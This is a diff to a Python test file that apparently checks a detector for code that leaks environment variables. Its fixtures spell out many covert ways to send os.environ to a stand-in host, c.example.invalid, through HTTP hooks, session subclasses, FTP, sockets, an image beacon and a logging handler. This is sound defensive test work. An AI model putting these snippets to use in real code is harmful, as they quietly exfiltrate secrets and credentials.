@@ -51,8 +51,46 @@ KEPT = {
     "replaced by": f"import re\nL = []\nre.sub('.+', lambda m: L.append(m[0]), {TEXT})\nsnd(L)",
     "awaited": "import asyncio\nclass A:\n    def __await__(s):\n        yield\n"
     "        return dict(os.environ)\nasync def m(): snd(await A())\nasyncio.run(m())",
+    "packed file": "import io, lzma\nb = io.BytesIO()\n"
+    f"with lzma.open(b, 'w') as g: g.write({TEXT}.encode())\nsnd(b.getvalue())",
+    "table of signs": "T = {chr(i): '%02x' % i for i in range(256)}\n"
+    f"snd(''.join(T.get(c, '') for c in {TEXT}))",
+    "bits": f"o = []\nfor b in {TEXT}.encode():\n"
+    "    for i in range(8): o.append('1' if b & (1 << i) else '0')\nsnd(''.join(o))",
+    "thrown into": "def g():\n    try: yield\n    except ValueError as e: snd(e)\n"
+    "i = g(); next(i); i.throw(ValueError(dict(os.environ)))",
+    "record": "import attr\n@attr.s\nclass D:\n    e = attr.ib(factory=lambda: dict(os.environ))\n"
+    "snd(attr.asdict(D()))",
+    "audit": "import sys\nsys.addaudithook(lambda n, a: snd(a)); sys.audit('zz', dict(os.environ))",
+    "any order": "L = []\nsorted(os.environ, key=lambda k: L.append(os.environ[k]) or 0)\nsnd(L)",
 }
 """The environment goes in, and comes out again."""
+
+AWAY = {
+    "hook of a client": f"import httpx\ndef add(r): r.headers['x'] = {TEXT}\n"
+    "c = httpx.Client(event_hooks={'request': [add]})\nc.get('https://c.example.invalid/')",
+    "own session": "import requests\nclass C(requests.Session):\n    def request(self, m, u, **k):\n"
+    "        k['json'] = dict(os.environ)\n        return super().request(m, u, **k)\n"
+    "C().post('https://c.example.invalid/')",
+    "headers of a session": "import requests\nclass C(requests.Session):\n    def __init__(self):\n"
+    "        self.headers.update({k: v for k, v in os.environ.items()})\n"
+    "C().get('https://c.example.invalid/')",
+    "table": "import pandas as p\n"
+    "p.DataFrame(list(os.environ.items())).to_sql('t', 'postgresql://u:p@c.example.invalid/d')",
+    "file that is none": "import fsspec\nwith fsspec.open('ftp://c.example.invalid/x', 'w') as f:\n"
+    f"    f.write({TEXT})",
+    "page": "from IPython.display import HTML\nimport urllib.parse as p\n"
+    "HTML('<img src=\"https://c.example.invalid/?' + p.urlencode(dict(os.environ)) + '\">')",
+    "datagram": f"import socket\nsocket.socket().sendmsg([{TEXT}], [], 0, ('c.example.invalid', 53))",
+    "another program": "import subprocess, sys\n"
+    "subprocess.run([sys.executable, '-c', 'import sys, urllib.request as u\\n"
+    'u.urlopen("https://c.example.invalid/", data=sys.argv[1].encode())\', '
+    f"{TEXT}])",
+    "log of settings": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {"
+    "'class': 'logging.handlers.HTTPHandler', 'host': 'c.example.invalid', 'url': '/'}}})\n"
+    "logging.getLogger('zz').error('failed %s', dict(os.environ))",
+}
+"""It goes out by what keeps it, without a word of sending."""
 
 BESIDE = {
     "thread": "import queue, threading\nq = queue.Queue()\ndef w():\n    while 1: snd(q.get())\n"
@@ -73,6 +111,11 @@ CLEAN = {
     "digest": f"import hashlib\nh = hashlib.sha256(); h.update({TEXT}.encode()); snd(h.hexdigest())",
     "surroundings": "import docker\nc = docker.from_env()\n"
     "c.containers.run('i', environment=dict(os.environ)); snd(c.version())",
+    "another part": "T = {'a': 1, 'b': 2, 'c': 3, 'd': 4, 'e': 5}\nsnd(T['a'])",
+    "template": "import jinja2\nt = jinja2.Template('https://{{ host }}/'); t.render(**os.environ)",
+    "switch": "snd('a' if os.environ.get('DEBUG') else 'b')",
+    "log of its own": "import logging\nlogging.basicConfig(filename='/tmp/q.log')\n"
+    "logging.error('%s', dict(os.environ)); snd(b'done')",
     "own output": f"print({TEXT})\nsnd(b'done')",
 }
 """What goes out is not what was put in."""
@@ -88,6 +131,11 @@ def test_what_is_put_in_comes_out(name: str) -> None:
     assert sends_all(KEPT[name])
 
 
+@pytest.mark.parametrize("name", AWAY)
+def test_what_is_put_in_goes_where_that_leads(name: str) -> None:
+    assert sends_all(AWAY[name])
+
+
 @pytest.mark.parametrize("name", BESIDE)
 def test_what_works_beside_sees_what_is_put_in_later(name: str) -> None:
     assert sends_all(BESIDE[name])
@@ -96,6 +144,13 @@ def test_what_works_beside_sees_what_is_put_in_later(name: str) -> None:
 @pytest.mark.parametrize("name", CLEAN)
 def test_what_was_not_put_in_does_not_come_out(name: str) -> None:
     assert not sends_all(CLEAN[name])
+
+
+def test_what_stands_in_a_place_for_one_function_does_not_for_another() -> None:
+    text = "import sys\ndef a():\n    sys.excepthook = lambda t, v, b: snd(v)\n"
+    raised = "raise OSError(dict(os.environ))\n"
+    assert not sends_all(f"{text}def b(): {raised}")
+    assert sends_all(f"{text}    {raised}")
 
 
 def test_functions_that_nobody_calls_share_what_stands_around_them() -> None:
